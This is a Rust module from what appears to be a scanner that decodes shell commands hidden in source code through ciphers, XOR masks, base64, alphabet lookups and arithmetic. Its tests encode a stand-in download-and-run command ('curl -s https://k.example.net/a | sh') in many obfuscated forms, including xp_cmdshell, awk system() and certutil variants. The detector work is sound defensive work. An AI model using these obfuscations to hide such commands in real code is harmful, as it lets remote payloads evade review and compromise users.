//! The calculations by which programs turn what they ship into text, all tried.
//!
//! Each is undone at the cost of a few looks: a wrong one gives a character that cannot be printed within the first
//! ones, and is left. Nothing here depends on the length of the text more than linearly.

use std::collections::BTreeSet;

use super::{
    literals::{Literal, alphabet, literals},
    numbers::{Run, runs},
    scattered,
    words::{is_command, printable},
};

/// What was found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Spelled {
    /// Where, in bytes.
    pub(super) at: usize,
    /// What stands there instead of the text.
    pub(super) how: &'static str,
    pub(super) text: String,
}

/// How many literals are held against each other, and the longest of them in characters.
const LITERALS: usize = 160;
/// The shortest literal that could be a command, and the most that could be keys.
const SHORTEST: usize = 8;
const KEYS: usize = 64;
const LONGEST: usize = 4096;
/// The most alphabets of one text.
const ALPHABETS: usize = 12;
/// The most numbers of a run that are calculated with.
const CALCULATED: usize = 1024;
/// How many tables of one text are tried with two numbers at once, which is sixty thousand pairs each.
const TRIES: usize = 12;
/// The fewest numbers that are calculated with by their places.
const PLACED: usize = 20;

/// The first hidden text. In prose, only numbers are looked at.
pub(super) fn solve(text: &str, prose: bool) -> Option<Spelled> {
    let all = if prose { Vec::new() } else { literals(text) };
    let literals: Vec<Literal<'_>> = all
        .iter()
        .copied()
        .filter(|literal| literal.text.len() >= SHORTEST)
        .take(LITERALS)
        .collect();
    let alphabets: Vec<(&str, Vec<char>)> = literals
        .iter()
        .filter_map(|literal| Some((literal.text, alphabet(literal.text)?)))
        .take(ALPHABETS)
        .collect();
    let runs = runs(text);
    let mut keys: Vec<&str> =
        all.iter().map(|l| l.text).filter(|key| key.len() <= 64 && !key.contains(' ')).collect();
    keys.sort_unstable();
    keys.dedup();
    keys.truncate(KEYS);
    let mut tries = TRIES;
    for run in &runs {
        let found =
            indexed(run, &alphabets).or_else(|| calculated(&run.numbers, &keys, &mut tries));
        if let Some(text) = found {
            return Some(Spelled { at: run.at, how: "a run of numbers", text });
        }
    }
    for literal in &literals {
        let found = enciphered(literal, &alphabets, &keys, &mut tries)
            .or_else(|| scattered::thinned(literal))
            .or_else(|| scattered::nested(literal));
        if let Some(text) = found {
            return Some(Spelled { at: literal.at, how: "a literal under a cipher", text });
        }
    }
    scattered::picked(&runs, &literals)
        .or_else(|| scattered::joined(text, &all))
        .or_else(|| pieces(&literals))
}

/// Places in an alphabet that the program holds.
fn indexed(run: &Run, alphabets: &[(&str, Vec<char>)]) -> Option<String> {
    for (_, letters) in alphabets {
        for numbers in strides(&run.numbers) {
            for first in [0, 1] {
                let spelled: Option<String> = numbers
                    .iter()
                    .map(|&n| letters.get(usize::try_from(n - first).ok()?).copied())
                    .collect();
                if let Some(text) = spelled.and_then(told) {
                    return Some(text);
                }
            }
        }
    }
    None
}

/// All numbers, and every second and third of them.
fn strides(numbers: &[i64]) -> Vec<Vec<i64>> {
    let mut found = vec![numbers.to_vec()];
    for step in [2, 3] {
        for from in 0..step {
            found.push(numbers.iter().skip(from).step_by(step).copied().collect());
        }
    }
    found
}

/// The text, read in either direction, if it is a command.
pub(super) fn told(text: String) -> Option<String> {
    if is_command(&text, false) {
        return Some(text);
    }
    let turned: String = text.chars().rev().collect();
    is_command(&turned, false).then_some(turned)
}

/// Text out of numbers: sums, differences, masks, multiples, each by one number or by the place; pairs of digits.
fn calculated(numbers: &[i64], keys: &[&str], tries: &mut usize) -> Option<String> {
    let numbers = numbers.get(..numbers.len().min(CALCULATED)).unwrap_or_default();
    if let Some(text) = shifted(numbers) {
        return Some(text);
    }
    let highest = numbers.iter().copied().max()?;
    // Bytes with a sign.
    let lowest = numbers.iter().copied().min()?;
    if (-128..0).contains(&lowest) && highest < 128 {
        let bytes: Vec<i64> = numbers.iter().map(|n| n & 0xff).collect();
        return calculated(&bytes, keys, tries);
    }
    // Each number in two digits of some base.
    if numbers.len() >= 16 && highest < 40 {
        for base in [8, 10, 16, 32, highest + 1] {
            let joined: Vec<i64> = numbers
                .chunks_exact(2)
                .map(|pair| pair.iter().fold(0, |sum, n| sum * base + n))
                .collect();
            if let Some(text) = shifted(&joined) {
                return Some(text);
            }
        }
    }
    let step = |with: fn(i64, i64) -> i64| -> Vec<i64> {
        numbers
            .windows(2)
            .map(|pair| pair.iter().rev().copied().reduce(with).unwrap_or_default())
            .collect()
    };
    let mut sum = 0_i64;
    let summed: Vec<i64> = numbers
        .iter()
        .map(|n| {
            sum = sum.wrapping_add(*n);
            sum
        })
        .collect();
    let bytes: Vec<i64> = summed.iter().map(|n| n & 0xff).collect();
    for other in [step(|a, b| a - b), step(|a, b| a ^ b), summed, bytes] {
        if let Some(text) = shifted(&other) {
            return Some(text);
        }
    }
    // A key that stands beside it.
    let bytes: Option<Vec<u8>> = numbers.iter().map(|&n| u8::try_from(n).ok()).collect();
    let bytes = bytes?;
    // What says the same over and over gives back the key that is put over it, and has none of its own.
    if is_even(&bytes) {
        return None;
    }
    if let Some(text) = masked(&bytes, keys).or_else(|| begun(&bytes)) {
        return Some(text);
    }
    *tries = tries.checked_sub(1)?;
    placed(numbers)
}

/// Has it fewer different bytes than any command, or one part that comes again and again?
fn is_even(bytes: &[u8]) -> bool {
    const LEAST: usize = 8;
    const LONGEST: usize = 32;
    let different: BTreeSet<u8> = bytes.iter().copied().collect();
    let comes_again = |length: usize| {
        bytes.len() >= 2 * length
            && bytes.iter().zip(bytes.iter().skip(length)).all(|(one, other)| one == other)
    };
    different.len() < LEAST || (1..=LONGEST).any(comes_again)
}

/// How commands and programs begin.
const BEGINNINGS: &[&str] = &[
    "curl -fsSL ",
    "curl -s ",
    "curl -sS",
    "wget -q",
    "https://",
    "powershell",
    "import os",
    "import subprocess",
    "#!/bin/sh",
    "#!/bin/bash",
    "#!/usr/bin/",
    "bash -c ",
    "sh -c ",
    "(curl ",
    "require(",
    "const ",
    "import ",
];

/// Bytes under a key that nobody ships, put over and over: a beginning that fits tells the key.
fn begun(bytes: &[u8]) -> Option<String> {
    const LEAST: usize = 24;
    if bytes.len() < LEAST {
        return None;
    }
    BEGINNINGS.iter().find_map(|begin| {
        (2..=begin.len().min(12)).find_map(|length| {
            let key: Vec<u8> =
                bytes.iter().zip(begin.bytes()).take(length).map(|(a, b)| a ^ b).collect();
            let text =
                printable(bytes.iter().zip(key.iter().cycle()).map(|(a, b)| i64::from(a ^ b)))?;
            // Numbers that are nearly the same, as those of a list, say the beginning again with each turn of the key.
            let turn = length.min(begin.len());
            let again = |at: usize| {
                let same =
                    text.bytes().skip(at).zip(begin.bytes().take(turn)).filter(|(a, b)| a == b);
                turn >= 4 && 4 * same.count() >= 3 * turn
            };
            if (length..text.len()).step_by(length).any(again) {
                return None;
            }
            // As many letters as the key has fit by themselves.
            is_command(text.get(length..)?, false).then_some(text)
        })
    })
}

/// Bytes under a key that the text holds, put over and over.
fn masked(bytes: &[u8], keys: &[&str]) -> Option<String> {
    keys.iter().find_map(|key| {
        [true, false].into_iter().find_map(|xor| {
            printable(bytes.iter().zip(key.bytes().cycle()).map(|(&byte, key)| {
                i64::from(if xor { byte ^ key } else { byte.wrapping_sub(key) })
            }))
            .and_then(told)
        })
    })
}

/// One number added, multiplied or masked, with or without one that grows with the place.
fn shifted(numbers: &[i64]) -> Option<String> {
    let (low, high) = (*numbers.iter().min()?, *numbers.iter().max()?);
    // Multiples of one number.
    let common = numbers.iter().fold(0, |common, n| gcd(common, n - low));
    if common > 1 && (high - low) / common <= 126 {
        let scaled: Vec<i64> = numbers.iter().map(|n| (n - low) / common).collect();
        if let Some(text) = added(&scaled) {
            return Some(text);
        }
    }
    if let Some(text) = added(numbers) {
        return Some(text);
    }
    let is_bytes = (0..256).contains(&low) && (0..256).contains(&high);
    if is_bytes {
        for mask in 1..256 {
            let found = printable(numbers.iter().map(|n| n ^ mask))
                .or_else(|| printable(numbers.iter().map(|n| (n + mask) & 0xff)))
                .or_else(|| printable(numbers.iter().map(|n| (n - 32 + mask).rem_euclid(95) + 32)));
            if let Some(text) = found.and_then(told) {
                return Some(text);
            }
            // All 95 of them can be printed: told of one says nothing of the other.
            if mask < 95
                && low >= 32
                && high <= 126
                && let Some(text) =
                    printable(numbers.iter().map(|n| (n - 32 + mask).rem_euclid(95) + 32))
                        .and_then(told)
            {
                return Some(text);
            }
        }
    }
    if numbers.len() < PLACED {
        return None;
    }
    for factor in (-32..=32).filter(|&factor| factor != 0) {
        let placed: Vec<i64> = places(numbers).map(|(at, n)| n + at * factor).collect();
        if let Some(text) = added(&placed) {
            return Some(text);
        }
    }
    None
}

/// Bytes to which a number is added, or under a mask, both growing with the place; and products.
fn placed(numbers: &[i64]) -> Option<String> {
    if numbers.len() < PLACED {
        return None;
    }
    for factor in 1..256 {
        for mask in 0..256 {
            let tries = [
                printable(places(numbers).map(|(at, n)| n ^ ((at * factor + mask) & 0xff))),
                printable(places(numbers).map(|(at, n)| (n + at * factor + mask) & 0xff)),
                (factor % 2 == 1)
                    .then(|| printable(numbers.iter().map(|n| (n * factor + mask) & 0xff)))
                    .flatten(),
            ];
            if let Some(text) = tries.into_iter().flatten().find_map(told) {
                return Some(text);
            }
        }
    }
    None
}

fn places(numbers: &[i64]) -> impl Iterator<Item = (i64, i64)> {
    (0_i64..).zip(numbers.iter().copied())
}

/// One number added: only those that bring all into what can be printed.
fn added(numbers: &[i64]) -> Option<String> {
    let (low, high) = (*numbers.iter().min()?, *numbers.iter().max()?);
    ((high - 126)..=(low - 9)).find_map(|by| {
        // As they stand they are read elsewhere, unless nothing says that they are letters.
        printable(numbers.iter().map(|n| n - by)).and_then(told)
    })
}

fn gcd(a: i64, b: i64) -> i64 {
    let (mut a, mut b) = (a.abs(), b.abs());
    while b > 0 {
        (a, b) = (b, a % b);
    }
    a
}

/// A literal whose letters, places or bytes are others.
fn enciphered(
    literal: &Literal<'_>,
    alphabets: &[(&str, Vec<char>)],
    keys: &[&str],
    tries: &mut usize,
) -> Option<String> {
    const SHORTEST: usize = 12;
    let text = literal.text;
    if text.len() > LONGEST || text.chars().count() < SHORTEST {
        return None;
    }
    let open = is_command(text, false);
    if !open {
        let turned: String = text.chars().rev().collect();
        if is_command(&turned, false) {
            return Some(turned);
        }
    }
    if !open && text.is_ascii() && text.contains(['/', '-', '|', '(', '.']) {
        for by in 1..26 {
            let rotated: String = text.bytes().map(|byte| rotate(byte, by)).collect();
            if is_command(&rotated, true) {
                return Some(rotated);
            }
        }
        let mirrored: String = text
            .bytes()
            .map(|byte| {
                char::from(match byte {
                    b'a'..=b'z' => b'z' - (byte - b'a'),
                    b'A'..=b'Z' => b'Z' - (byte - b'A'),
                    _ => byte,
                })
            })
            .collect();
        if is_command(&mirrored, true) {
            return Some(mirrored);
        }
    }
    if !open && text.is_ascii() && !text.contains(' ') {
        let numbers: Vec<i64> = text.bytes().map(i64::from).collect();
        let printed = |by: i64| {
            printable(numbers.iter().map(|n| (n - 33 + by).rem_euclid(94) + 33)).and_then(told)
        };
        if let Some(text) = added(&numbers).or_else(|| (1..94).find_map(printed)) {
            return Some(text);
        }
    }
    for bytes in decoded(text) {
        let numbers: Vec<i64> = bytes.iter().map(|&byte| i64::from(byte)).collect();
        // What is only encoded is read by those who decode.
        let plain = printable(numbers.iter().copied()).is_some();
        if plain && std::str::from_utf8(&bytes).is_ok_and(|text| is_command(text, false)) {
            continue;
        }
        if let Some(text) = calculated(&numbers, keys, tries) {
            return Some(text);
        }
    }
    if open {
        return None;
    }
    if text.chars().all(|c| DIGITS.contains(c)) {
        let letters: Vec<char> = DIGITS.chars().collect();
        if let Some(text) = places_in(text, &letters) {
            return Some(text);
        }
    }
    for (source, letters) in alphabets.iter().filter(|(source, _)| *source != text) {
        if let Some(text) = places_in(text, letters) {
            return Some(text);
        }
        for (signs, to) in alphabets.iter().filter(|(other, _)| other != source && *other != text) {
            if to.len() == letters.len() {
                let swapped: String = text
                    .chars()
                    .map(|c| {
                        letters
                            .iter()
                            .position(|l| *l == c)
                            .and_then(|at| to.get(at))
                            .copied()
                            .unwrap_or(c)
                    })
                    .collect();
                // A literal that holds the one alphabet gives the other as it stands, which is in the open.
                if swapped != text
                    && let Some(text) = told(swapped)
                    && told(text.replace(signs, " ")).is_some()
                {
                    return Some(text);
                }
            }
        }
    }
    None
}

/// Digits of Chinese and Japanese, in their order.
const DIGITS: &str = "〇一二三四五六七八九";

/// The bytes that hexadecimal or base64 stand for.
pub(super) fn decoded(text: &str) -> Vec<Vec<u8>> {
    use base64::Engine;
    const LEAST: usize = 24;
    let mut found = Vec::new();
    if text.len() < LEAST || !text.is_ascii() {
        return found;
    }
    let hex: Option<Vec<u8>> = text
        .len()
        .is_multiple_of(2)
        .then(|| {
            text.as_bytes()
                .chunks_exact(2)
                .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
                .collect()
        })
        .flatten();
    found.extend(hex);
    let bare = text.trim_end_matches('=');
    for engine in [
        &base64::engine::general_purpose::STANDARD_NO_PAD,
        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ] {
        if found.is_empty()
            && let Ok(bytes) = engine.decode(bare)
        {
            found.push(bytes);
        }
    }
    found
}

fn rotate(byte: u8, by: u8) -> char {
    char::from(match byte {
        b'a'..=b'z' => (byte - b'a' + by) % 26 + b'a',
        b'A'..=b'Z' => (byte - b'A' + by) % 26 + b'A',
        _ => byte,
    })
}

/// The letters of a text by their places in an alphabet: turned round by one number, or digits of its length.
fn places_in(text: &str, letters: &[char]) -> Option<String> {
    let size = i64::try_from(letters.len()).ok()?;
    let signs: Vec<(char, Option<i64>)> = text
        .chars()
        .map(|c| {
            let place = letters.iter().position(|letter| *letter == c);
            (c, place.and_then(|place| i64::try_from(place).ok()))
        })
        .collect();
    let at: Vec<i64> = signs.iter().filter_map(|(_, place)| *place).collect();
    let all = at.len() == signs.len();
    // Most of what stands there is of the alphabet.
    if at.len() * 4 < signs.len() * 3 {
        return None;
    }
    for by in 1..size {
        let turned: String = signs
            .iter()
            .map(|(c, place)| {
                place
                    .and_then(|place| usize::try_from((place + by) % size).ok())
                    .and_then(|place| letters.get(place))
                    .copied()
                    .unwrap_or(*c)
            })
            .collect();
        if is_command(&turned, true) {
            return Some(turned);
        }
    }
    if !all {
        return None;
    }
    if matches!(size, 32 | 64 | 65) {
        let bits = if size == 32 { 5 } else { 6 };
        let (mut held, mut have, mut bytes) = (0_i64, 0, Vec::new());
        for place in &at {
            held = (held << bits | (place & 63)) & 0xffff;
            have += bits;
            if have >= 8 {
                have -= 8;
                bytes.push(held >> have & 0xff);
            }
        }
        return shifted(&bytes);
    }
    let widths: &[usize] = match size {
        2 => &[7, 8],
        3..=6 => &[4, 3],
        7..=9 => &[3],
        10..=15 => &[3, 2],
        16..=40 => &[2],
        _ => &[],
    };
    widths.iter().find_map(|&width| {
        let numbers: Vec<i64> = at
            .chunks_exact(width)
            .map(|chunk| chunk.iter().fold(0, |sum, n| sum * size + n))
            .collect();
        shifted(&numbers)
    })
}

/// Literals one behind the other that are words of commands only together, and words that are letters' pictures.
fn pieces(literals: &[Literal<'_>]) -> Option<Spelled> {
    // Rotated pieces that weigh enough together only.
    for by in 1..26 {
        let mut weighs = String::new();
        let mut at = None;
        for literal in literals.iter().filter(|literal| literal.text.is_ascii()) {
            let rotated: String = literal.text.bytes().map(|byte| rotate(byte, by)).collect();
            if rotated.contains("://") || rotated.contains("/dev/") {
                at = at.or(Some(literal.at));
                weighs.push_str(&rotated);
                weighs.push('\n');
            }
        }
        if let Some(at) = at
            && (weighs.contains("https://") || weighs.contains("http://"))
        {
            return Some(Spelled { at, how: "a literal under a cipher", text: weighs });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    const COMMAND: &str = "curl -s https://k.example.net/a | sh";

    fn list(numbers: impl Iterator<Item = i64>) -> String {
        numbers.map(|n| n.to_string()).collect::<Vec<_>>().join(", ")
    }

    #[test]
    fn every_simple_calculation_is_undone() {
        let bytes = || COMMAND.bytes().map(i64::from);
        let at = || (0_i64..).zip(bytes());
        let mut running = 0;
        for (how, numbers) in [
            ("sum", list(bytes().map(|n| n + 31))),
            ("mask", list(bytes().map(|n| n ^ 0x5a))),
            ("product", list(bytes().map(|n| n * 7 - 3))),
            ("place", list(at().map(|(at, n)| n + at * 3 + 11))),
            ("masked place", list(at().map(|(at, n)| n ^ ((at * 7) & 255)))),
            ("turned", list(bytes().rev().map(|n| 300 - n).map(|n| 300 - n + 4))),
            ("nibbles", list(bytes().flat_map(|n| [n / 16, n % 16]))),
            ("product in bytes", list(bytes().map(|n| (n * 37) & 255))),
            (
                "differences",
                list(bytes().map(|n| {
                    let step = n - running;
                    running = n;
                    step
                })),
            ),
        ] {
            let found = solve(&format!("t = [{numbers}]\nrun(t)\n"), false);
            assert!(
                found.as_ref().is_some_and(|found| found.text.contains("curl -s")),
                "{how} {found:?}"
            );
        }
    }

    #[test]
    fn literals_under_a_cipher_are_read() {
        let rotated: String = COMMAND.bytes().map(|byte| rotate(byte, 7)).collect();
        let turned: String = COMMAND.chars().rev().collect();
        let hex: String = COMMAND.bytes().map(|byte| format!("{:02x}", byte ^ 0x33)).collect();
        let digits: Vec<char> = DIGITS.chars().collect();
        let chinese: String = COMMAND
            .bytes()
            .flat_map(|byte| format!("{:03}", u32::from(byte) + 300).chars().collect::<Vec<_>>())
            .filter_map(|c| digits.get(c.to_digit(10)? as usize).copied())
            .collect();
        let keyed: String = COMMAND
            .bytes()
            .zip("gamma-ray".bytes().cycle())
            .map(|(byte, key)| format!("{:02x}", byte ^ key))
            .collect();
        for text in [
            format!("$t = '{rotated}';\n"),
            format!("t = \"{turned}\"\n"),
            format!("local t = \"{hex}\"\n"),
            format!("表 = \"{chinese}\"\n"),
            format!("k = 'gamma-ray'\nt = '{keyed}'\n"),
        ] {
            let found = solve(&text, false);
            assert!(found.is_some_and(|found| found.text.contains("curl -s")), "{text}");
        }
    }

    #[test]
    fn places_in_an_alphabet_are_read() {
        let batch = "set \"b=abcdefghijklmnopqrstuvwxyz/:.\"\nset \"c=!b:~2,1!!b:~4,1!!b:~17,1!!b:~19,1!!b:~20,1!!b:~19,1!!b:~8,1!!b:~11,1!\"\n";
        assert_eq!(solve(batch, false).map(|found| found.text).as_deref(), Some("certutil"));
        let from = "etaoinshrdlucmfwypvbgkjqxz/:.-| ";
        let to = "qwertyuiopasdfghjklzxcvbnm1234 5";
        let letters: Vec<char> = from.chars().collect();
        let others: Vec<char> = to.chars().collect();
        let text: String = COMMAND
            .chars()
            .map(|c| {
                letters
                    .iter()
                    .position(|l| *l == c)
                    .and_then(|at| others.get(at))
                    .copied()
                    .unwrap_or(c)
            })
            .collect();
        let program = format!("f = \"{from}\"\ng = \"{to}\"\nm = \"{text}\"\n");
        assert!(
            solve(&program, false).is_some_and(|found| found.text.contains("curl -s")),
            "{text}"
        );
    }

    /// One literal holds the other, sign for sign: what it stands for is in the open.
    #[test]
    fn an_alphabet_that_is_a_command_itself_hides_none() {
        let open =
            "#!/bin/bash\nARGS=\"\"\nLEAF_WIDTHS=\"$LEAF_WIDTHS --wide $2\"\nN=\"$LEAF_WIDTH\"\n";
        assert_eq!(solve(open, false), None);
        // As long, and of as many signs: a command beyond it is told.
        let from = "abcdefghijklmnopqrstuvwxyz/:.-| ";
        let to = "curl -s:/tpkexamn.|hbdfgijoqvwyz";
        let text: String = COMMAND
            .chars()
            .map(|c| {
                to.chars().position(|l| l == c).and_then(|at| from.chars().nth(at)).unwrap_or(c)
            })
            .collect();
        let hidden = format!("f = \"{from}\"\ng = \"{to}\"\nm = \"{text}\"\n");
        assert!(solve(&hidden, false).is_some_and(|found| found.text.contains("curl -s")));
    }

    /// Other disguises, in other languages.
    #[test]
    fn letters_out_of_their_places_are_found() {
        use base64::Engine;
        let encode = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
        let bytes = || COMMAND.bytes().map(i64::from);
        let signed = list(bytes().map(|n| n ^ 0xd1).map(|n| if n > 127 { n - 256 } else { n }));
        let short_key: String = COMMAND
            .bytes()
            .zip("k9#".bytes().cycle())
            .map(|(a, b)| format!("{:02x}", a ^ b))
            .collect();
        let no_key =
            list(bytes().zip([7, 201, 33, 94, 12].into_iter().cycle()).map(|(a, b)| a ^ b));
        let mirrored: String =
            COMMAND
                .bytes()
                .map(|b| {
                    if b.is_ascii_lowercase() {
                        char::from(b'z' - (b - b'a'))
                    } else {
                        char::from(b)
                    }
                })
                .collect();
        let junk: String = COMMAND.chars().flat_map(|c| [c, 'Q']).collect();
        let second: String = COMMAND
            .chars()
            .zip("qwmvnbzxplkjhgfdsaqwertyuioplkjhgfdsazxcvbnm".chars().cycle())
            .flat_map(|(a, b)| [a, b])
            .collect();
        let banner =
            "abcdefghijklmnopqrstuvwxyz the quick brown fox /:.-| 0123456789 over the lazy dog";
        let picked = list(COMMAND.chars().map(|c| banner.find(c).unwrap() as i64));
        let order: Vec<usize> = (0..COMMAND.len()).map(|i| i * 5 % COMMAND.len()).collect();
        let mixed: String = order.iter().map(|&i| COMMAND.chars().nth(i).unwrap()).collect();
        let order = list(order.iter().map(|&i| i as i64));
        let encoded = encode(COMMAND);
        let (head, tail) = encoded.split_at(14);
        let turned: String = encoded.chars().rev().collect();
        let twice = encode(&encoded);
        let octal: String = COMMAND.bytes().map(|b| format!("\\{b:03o}")).collect();
        let sprintf =
            COMMAND.bytes().map(|b| (i64::from(b) - 31).to_string()).collect::<Vec<_>>().join(" ");
        let sql =
            COMMAND.bytes().map(|b| format!("CHAR({})", b ^ 21)).collect::<Vec<_>>().join("+");
        let named: String =
            COMMAND.bytes().enumerate().map(|(i, b)| format!("key{i}_w: {}\n", b + 9)).collect();
        let table: String = COMMAND
            .bytes()
            .enumerate()
            .map(|(i, b)| format!("r{i},{}\n", u32::from(b) * 2 + 5))
            .collect();
        let texts = [
            ("java", format!("byte[] b = {{{signed}}};")),
            ("short key", format!("local k, t = 'k9#', '{short_key}'")),
            ("no key", format!("T = [{no_key}]")),
            ("mirrored", format!("my $m = '{mirrored}';")),
            ("junk", format!("x := \"{junk}\"")),
            ("second", format!("x := \"{second}\"")),
            ("picked", format!("b = '{banner}'\np = [{picked}]\n")),
            ("order", format!("b = '{mixed}'\np = [{order}]\n")),
            ("pieces", format!("a = [\"{head}\", \"{tail}\"]")),
            ("pieces back", format!("a = [\"{tail}\", \"{head}\"]")),
            ("turned", format!("a = '{turned}'")),
            ("twice", format!("a = '{twice}'")),
            ("make", format!("X := $(shell printf '{octal}')")),
            (
                "awk",
                format!(
                    "BEGIN {{ split(\"{sprintf}\", a); for (i in a) s = s sprintf(\"%c\", a[i] + 31); system(s) }}"
                ),
            ),
            ("sql", format!("exec xp_cmdshell {sql}")),
            ("yaml", named),
            ("csv", format!("name,w\n{table}")),
        ];
        let missed: Vec<String> = texts
            .iter()
            .filter(|(_, text)| {
                !solve(text, false).is_some_and(|found| found.text.contains("curl -s"))
            })
            .map(|(how, text)| format!("{how}: {text} {:?}", solve(text, false)))
            .collect();
        assert!(missed.is_empty(), "{missed:#?}");
    }

    #[test]
    fn tables_that_spell_nothing_are_let_be() {
        for text in [
            "crc = [0x00000000, 0x77073096, 0xee0e612c, 0x990951ba, 0x076dc419, 0x706af48f, 0xe963a535, 0x9e6495a3]",
            "path d=\"M145,149,152,151,154,156,80,79,150,151,140,141,98,139,144,145,148,140\"",
            "const keys = \"abcdefghijklmnopqrstuvwxyz\";\nconst rows = [1,2,3,4,5,6,7,8,9,10,11,12];\n",
            "palette = [12, 40, 200, 31, 77, 18, 250, 3, 99, 140, 17, 22, 80, 91, 33, 60, 71, 4, 8, 15]",
            "token = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"",
            "msg = \"Uryyb, jbeyq\"  # hello world",
            "re = 'https?:\\/\\/[^\\s]+\\/a\\.b\\.c\\/d'",
            "args = [\"curl\", \"-s\", \"https://a.example.com/x\", \"-o\", \"out\"]",
            "order = [3, 1, 2, 0, 5, 4, 7, 6, 9, 8]\nname = 'abcdefghij'\n",
            "p = [2, 20, 17, 11, 26, 50, 18, 26, 7, 19, 19, 15, 18, 48, 47, 47, 10, 49, 4, 23, 0, 12, 15, 11, 4, 49]",
            "icon = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='",
        ] {
            assert_eq!(solve(text, false), None, "{text}");
        }
    }

    #[test]
    fn numbers_that_are_the_same_over_and_over_spell_nothing() {
        let printed = "import os\nprint(os.getcwd(), 1)\n".repeat(50);
        let zeros = format!(
            "base = 'https://api.example.net/v1/items?limit=40'\npad = [{}]\n",
            list([0; 48].into_iter())
        );
        let flags =
            format!("u = 'https://a.example.net/x'\nm = [{}]\n", list((0..60).map(|n| n % 3)));
        for text in [printed, zeros, flags] {
            assert_eq!(solve(&text, false), None, "{text}");
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
        #[test]
        fn any_text_can_be_tried(text: String) {
            solve(&text, false);
        }
    }
}
